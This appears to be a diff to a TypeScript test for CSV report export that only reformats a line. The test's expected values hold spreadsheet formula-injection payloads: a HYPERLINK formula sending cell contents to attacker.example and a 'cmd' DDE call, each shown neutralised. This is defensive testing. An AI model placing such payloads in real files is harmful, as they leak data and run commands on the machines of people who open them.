@@ -35,7 +35,10 @@ describe('report exports', () => {
     expect(csvField(0)).toBe('0');
     expect(csvField(null)).toBe('');
     const table: ReportTable = { title: 't', headers: ['名称', '金额（元）'], rows: FORMULA_NAMES.map((name, index) => [name, -index - 0.5]) };
-    const lines = toCsv(table).toString('utf8').replace(/^\uFEFF/, '').split('\r\n');
+    const lines = toCsv(table)
+      .toString('utf8')
+      .replace(/^\uFEFF/, '')
+      .split('\r\n');
     expect(lines[1]).toBe(`"'=HYPERLINK(""http://attacker.example/?""&A1,""查看"")",-0.5`);
     expect(lines[3]).toBe(`"'-2+3+cmd|"" /C calc""!A0",-2.5`);
   });
